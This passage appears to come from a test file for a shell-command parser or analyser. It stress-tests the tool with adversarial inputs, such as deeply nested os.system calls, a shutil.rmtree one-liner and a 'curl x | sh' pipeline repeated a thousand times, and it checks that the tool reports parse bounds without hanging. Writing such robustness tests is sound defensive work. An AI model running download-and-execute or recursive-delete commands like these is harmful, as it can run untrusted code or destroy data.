  { name: 'only operators', cmd: ';;; ||| &&& ((( ))) <<<<<< >>>> |& <( >(', bound: true },
  { name: 'unterminated quotes', cmd: `echo "a 'b \`c $(d`, bound: true },
  // Interpreter one-liners: their code is read, and every shell string in it analysed.
  { name: '20,000 nested os.system(', cmd: `python3 -c "${'os.system('.repeat(20_000)}'x'${')'.repeat(20_000)}"`, bound: true },
  { name: '3,000 nested os.path.join(', cmd: `python3 -c "import shutil; shutil.rmtree(${'os.path.join('.repeat(3000)}'/'${')'.repeat(3000)})"`, bound: false },
  { name: '30,000 calls', cmd: `node -e "${'f(1);'.repeat(30_000)}"`, bound: true },
  { name: '60,000 open parentheses', cmd: `python3 -c "${'('.repeat(60_000)}"`, bound: false },
  { name: 'unterminated template interpolations', cmd: `node -e '\`\${\${\${ "'`, bound: false },
  { name: '10,000 bare system calls', cmd: `ruby -e "${'system '.repeat(10_000)}"`, bound: true },
  { name: '1,000 pipeline stages into sh', cmd: `curl x | ${'sh | '.repeat(1000)}sh`, bound: false },
];

for (const h of hostile) {
  // Behaviour only: no throw, bounds reported. Timings are `npm run bench`'s (DESIGN.md budgets);
  // the timeout only turns a hang into a failure.
  void test(`hostile: ${h.name}`, { timeout: HANG_MS }, () => {
    const a = run(h.cmd);
    if (h.bound) assert.notDeepEqual(a.bounds, [], `${h.name}: expected a bound`);
  });
}

void test('hostile: a 1,000-stage pipeline is 1,000 commands, each reading the one before', () => {
  const a = run(Array.from({ length: 1000 }, (_, i) => `p${i}`).join(' | '));
  assert.equal(a.commands.length, 1000);
  assert.deepEqual(a.bounds, []);
  assert.deepEqual(a.commands[999]?.stdin, { kind: 'pipe', from: 'p998' });
});

void test('hostile: a bound is in the trace as well', () => {
  const a = run('echo $(ls');
  assert.ok(a.trace.some((t) => t.kind === 'bound'));
});
